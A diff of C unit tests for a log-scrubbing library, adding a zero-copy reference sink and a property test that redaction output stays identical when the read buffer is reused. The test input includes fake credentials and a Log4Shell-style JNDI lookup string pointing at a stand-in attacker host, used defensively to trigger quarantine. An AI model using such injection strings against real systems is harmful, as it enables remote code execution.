@@ -188,7 +188,7 @@ static void run_stream(scrub_ruleset_t *rs, const uint8_t *in, size_t n, size_t 
 {
     scrub_worker_t *w = scrub_worker_new(rs);
     scrub_stats_t *st = scrub_stats_new(rs);
-    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap, NULL};
+    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap, NULL, NULL};
     scrub_stream_t *s = scrub_stream_new(w, &ops, st, "t");
     size_t pos = 0;
 
@@ -258,6 +258,125 @@ UT_TEST(stream_clean_input_identity)
         free(in);
     }
     UT_CHECK(clean_rounds > 150); /* the property was really exercised */
+    scrub_ruleset_unref(rs);
+}
+
+/* A clean sink that keeps references (clean_ref) until flush, as the CLI's
+ * writer does: copies and references are materialised in order at flush. */
+typedef struct refcap {
+    capture_t c;              /* first: cap_quar takes it; c.out is the materialised output */
+    const uint8_t *ref[4096]; /* pending pieces: a reference, or NULL for a copy */
+    size_t len[4096];
+    scrub_buf_t copies;       /* the bytes of pending copies, in order */
+    size_t n;
+    int refs;                 /* references taken in all */
+} refcap_t;
+
+static int ref_clean(void *ctx, const uint8_t *p, size_t n)
+{
+    refcap_t *r = ctx;
+
+    UT_CHECK(r->n < 4096);
+    r->ref[r->n] = NULL;
+    r->len[r->n++] = n;
+    return scrub_buf_append(&r->copies, p, n);
+}
+
+static int ref_clean_ref(void *ctx, const uint8_t *p, size_t n)
+{
+    refcap_t *r = ctx;
+
+    UT_CHECK(r->n < 4096);
+    r->ref[r->n] = p;
+    r->len[r->n++] = n;
+    r->refs++;
+    return 0;
+}
+
+static int ref_flush(void *ctx)
+{
+    refcap_t *r = ctx;
+    size_t i, c = 0;
+
+    for (i = 0; i < r->n; i++) {
+        const uint8_t *p = r->ref[i] != NULL ? r->ref[i] : r->copies.data + c;
+        c += r->ref[i] != NULL ? 0 : r->len[i];
+        if (scrub_buf_append(&r->c.out, p, r->len[i]) != 0) {
+            return -1;
+        }
+    }
+    r->n = 0;
+    scrub_buf_reset(&r->copies);
+    return 0;
+}
+
+/* Property: with a clean_ref sink, flushed after each feed and the fed buffer
+ * overwritten right after (as the CLI reuses its read buffer), the output is
+ * exactly what copying sinks get: the stream references only the caller's
+ * bytes (never its own carry of a line split across feeds), and only until
+ * the flush. Secret lines make redactions and quarantines interleave. */
+UT_TEST(stream_clean_ref_until_flush)
+{
+    static const char *const lines[] = {
+        "plain log line with nothing in it", "password=Tr0ub4dor&3xyzzyQ7 in a line",
+        "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlX3NpZ25hdA",
+        "${jndi:ldap://evil.example/a} attempt", "another quiet line", ""};
+    scrub_ruleset_t *rs = default_rules();
+    unsigned seed = 99;
+    int round, refs = 0;
+
+    UT_CHECK(rs != NULL);
+    if (rs == NULL) {
+        return;
+    }
+    for (round = 0; round < 60; round++) {
+        scrub_buf_t in;
+        capture_t a;
+        scrub_counts_t ca;
+        refcap_t *r = calloc(1, sizeof(*r));
+        scrub_worker_t *w = scrub_worker_new(rs);
+        scrub_stats_t *st = scrub_stats_new(rs);
+        scrub_sink_ops_t ops = {ref_clean, cap_quar, NULL, NULL, ref_flush, ref_clean_ref};
+        scrub_stream_t *s;
+        size_t pos = 0, i, chunk = 1 + (size_t)(rand_r(&seed) % 3000);
+        uint8_t *feed = malloc(3000);
+
+        scrub_buf_init(&in, 0);
+        for (i = 0; i < 400; i++) {
+            const char *l = lines[rand_r(&seed) % 6];
+            scrub_buf_append(&in, (const uint8_t *)l, strlen(l));
+            scrub_buf_append(&in, (const uint8_t *)"\n", 1);
+        }
+        ops.ctx = r;
+        s = scrub_stream_new(w, &ops, st, "t");
+        while (pos < in.len) {
+            size_t k = in.len - pos < chunk ? in.len - pos : chunk;
+            memcpy(feed, in.data + pos, k);
+            UT_CHECK(scrub_stream_feed(s, feed, k) == 0);
+            UT_CHECK(ref_flush(r) == 0);
+            memset(feed, 0xAA, k); /* the next read reuses the buffer */
+            pos += k;
+        }
+        UT_CHECK(scrub_stream_finish(s) == 0);
+        UT_CHECK(ref_flush(r) == 0);
+        run_stream(rs, in.data, in.len, 0, &a, &ca);
+        UT_CHECK(r->c.out.len == a.out.len && memcmp(r->c.out.data, a.out.data, a.out.len) == 0);
+        UT_CHECK(r->c.quar.len == a.quar.len &&
+                 memcmp(r->c.quar.data, a.quar.data, a.quar.len) == 0);
+        refs += r->refs;
+        scrub_stream_destroy(s);
+        scrub_stats_destroy(st);
+        scrub_worker_destroy(w);
+        scrub_buf_free(&r->c.out);
+        scrub_buf_free(&r->c.quar);
+        scrub_buf_free(&r->copies);
+        free(r);
+        free(feed);
+        scrub_buf_free(&a.out);
+        scrub_buf_free(&a.quar);
+        scrub_buf_free(&in);
+    }
+    UT_CHECK(refs > 100); /* references were really taken */
     scrub_ruleset_unref(rs);
 }
 
@@ -394,7 +513,7 @@ UT_TEST(stream_oversize_pause)
     scrub_stats_t *st;
     scrub_stream_t *s;
     scrub_buf_t log;
-    scrub_sink_ops_t ops = {log_clean, log_quar, NULL, &log, NULL};
+    scrub_sink_ops_t ops = {log_clean, log_quar, NULL, &log, NULL, NULL};
     char big[81];
     const scrub_counts_t *c;
 
@@ -537,7 +656,7 @@ static void run_pool(scrub_ruleset_t *rs, unsigned threads, const uint8_t *in, s
                      size_t chunk, capture_t *cap, scrub_counts_t *counts)
 {
     scrub_stats_t *st = scrub_stats_new(rs);
-    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap, NULL};
+    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap, NULL, NULL};
     scrub_pool_t *pl = scrub_pool_new(rs, threads, &ops, st);
     size_t pos = 0;
 
